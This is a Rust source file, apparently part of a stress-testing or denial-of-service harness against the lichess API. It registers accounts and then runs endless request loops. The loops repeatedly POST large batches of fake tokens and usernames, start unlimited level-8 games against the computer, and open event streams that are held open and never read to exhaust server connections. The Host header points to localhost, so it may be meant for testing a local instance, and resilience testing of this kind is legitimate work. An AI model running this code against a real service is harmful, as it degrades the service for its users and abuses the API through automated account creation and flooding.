use anyhow::Result;
use reqwest::Method;
use serde_json::json;
use tokio::io::AsyncWriteExt;

use super::{attacker::Attacker, people};

/// How many tokens and names one question has.
const TOKENS: usize = 100;
const NAMES: usize = 300;

/// Opens streams of the lichess API and reads nothing of them, or asks for as much as it
/// allows, with an account of its own.
pub async fn ask(attacker: &Attacker, number: usize) -> Result<()> {
    let address = attacker.from.to_string().replace('.', "x");
    let token = people::sign_up(attacker, &format!("q{number}x{address}")).await?;
    match number % 4 {
        0 => hold_streams(attacker, &token).await,
        1 => {
            let tokens = (0..TOKENS).map(|it| format!("arb_{it:064x}"));
            let tokens = tokens.collect::<Vec<_>>().join(",");
            repeat(attacker, "/api/token/test", tokens).await
        }
        2 => {
            let names = (0..NAMES).map(|it| format!("q{it}x{address}"));
            let names = names.collect::<Vec<_>>().join(",");
            repeat(attacker, "/api/users", names).await
        }
        _ => challenge_computer(attacker, &token).await,
    }
}

/// Sends the same body again and again.
async fn repeat(attacker: &Attacker, path: &str, body: String) -> Result<()> {
    loop {
        let request = attacker.api.request(Method::POST, path);
        attacker.send(request.body(body.clone())).await?;
    }
}

/// Starts games against the computer, as many as it can.
async fn challenge_computer(attacker: &Attacker, token: &str) -> Result<()> {
    loop {
        let request = attacker.api.request(Method::POST, "/api/challenge/ai");
        let game = json!({"level": 8, "clock.limit": 60, "clock.increment": 0});
        attacker
            .send(request.json(&game).bearer_auth(token))
            .await?;
    }
}

/// Opens a stream of events again and again on the same account, and never reads.
async fn hold_streams(attacker: &Attacker, token: &str) -> Result<()> {
    let mut held = Vec::new();
    loop {
        let mut stream = attacker.connect().await?;
        let head = format!(
            "GET /api/stream/event HTTP/1.1\r\nHost: localhost\r\n\
             Authorization: Bearer {token}\r\n\r\n"
        );
        attacker.note_sent(1);
        stream.write_all(head.as_bytes()).await?;
        held.push(stream);
        tokio::time::sleep(super::RETRY_PAUSE).await;
    }
}
